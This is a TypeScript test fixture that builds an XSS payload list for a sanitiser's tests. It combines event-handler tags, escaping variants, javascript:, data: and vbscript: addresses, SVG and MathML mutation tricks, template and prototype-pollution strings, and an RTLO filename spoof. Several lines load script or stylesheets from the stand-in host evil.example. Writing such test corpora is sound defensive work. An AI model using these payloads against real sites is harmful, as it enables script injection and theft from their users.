// What has no business in a lesson: ways to have a browser run, fetch or change something, written for these tests.
// Each place a script can hide in HTML, times the ways to write it; then what is particular to addresses, SVG, MathML,
// templates, Markdown and this app.

import { readFileSync } from 'node:fs'

const RUN = 'alert(1)'
const FETCH = 'https://evil.example/x'

const handlers = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=0 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video poster=x src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['div style=animation:x', 'onanimationstart'],
  ['div style=transition:1s', 'ontransitionend'],
  ['form', 'onformdata'],
  ['dialog open', 'onclose'],
  ['div popover', 'onbeforetoggle'],
] as const

const writings: readonly ((tag: string, on: string) => string)[] = [
  (tag, on) => `<${tag} ${on}=${RUN}>`,
  (tag, on) => `"><${tag} ${on}="${RUN}">`,
  (tag, on) => `'><${tag} ${on}='${RUN}'//`,
  (tag, on) => `</textarea></title></style><${tag} ${on}=${RUN}>`,
  (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()}=${RUN}>`,
  (tag, on) => `<${tag.replaceAll(' ', '/')}/${on}=${RUN}>`,
  (tag, on) => `<${tag} ${on}=&#97;&#108;&#101;&#114;&#116;(1)>`,
  (tag, on) => `<noscript><p title="</noscript><${tag} ${on}=${RUN}>">`,
  (tag, on) => `&lt;${tag} ${on}=${RUN}&gt;`,
]

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${FETCH}`,
  `filesystem:${FETCH}`,
  FETCH,
  FETCH.replace('https:', ''),
] as const

const carriers: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `[x](${to})`,
  (to) => `![x](${to})`,
]

const others = [
  `<script>${RUN}</script>`,
  `<script src=${FETCH}></script>`,
  `<script type=module>import '${FETCH}'</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<base href=${FETCH}>`,
  `<meta http-equiv=refresh content="0;url=${FETCH}">`,
  `<link rel=prefetch href=${FETCH}>`,
  `<style>@import '${FETCH}';*{background:url(${FETCH})}</style>`,
  `<p style="background:url(${FETCH})">x</p>`,
  `<form action=${FETCH}><input name=attributes><button>x</button></form>`,
  `<img name=getElementById><form id=document><input name=cookie></form>`,
  `<x-y is=z onclick=${RUN}>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1}}',
  '[x]: javascript:alert(1)\n\n[x]',
  '<https://evil.example/x>',
  ':term[x]{of=__proto__}',
  ':::aside{onclick=alert(1)}\nx\n:::',
  '```aws run\naws iam create-user --user-name $(alert 1)\n```',
  'x\u202Egpj.exe\u202C',
  'a\u0000b',
  `${'<b>'.repeat(100)}x`,
]

const own: readonly string[] = [
  ...handlers.flatMap(([tag, on]) => writings.map((write) => write(tag, on))),
  ...addresses.flatMap((address) => carriers.map((carry) => carry(address))),
  ...others,
]

/** PAYLOADS names a file with a list of others, in JSON, to be tried instead: those of a sanitiser's own tests, say. */
const file = process.env.PAYLOADS
export const payloads: readonly string[] = file ? (JSON.parse(readFileSync(file, 'utf8')) as string[]) : own
